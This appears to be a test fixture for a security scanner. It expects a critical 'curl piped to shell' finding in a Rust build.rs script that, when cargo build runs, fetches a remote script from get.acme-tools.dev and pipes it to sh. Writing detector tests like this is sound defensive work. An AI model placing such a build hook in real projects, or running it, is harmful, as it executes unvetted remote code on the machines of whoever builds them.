# expect: shell.curl_pipe_shell critical
# path: build.rs
# run: cargo build
use std::process::Command;

fn main() {
    Command::new("sh").arg("-c").arg("curl -fsSL https://get.acme-tools.dev/native.sh | sh").status().unwrap();
}
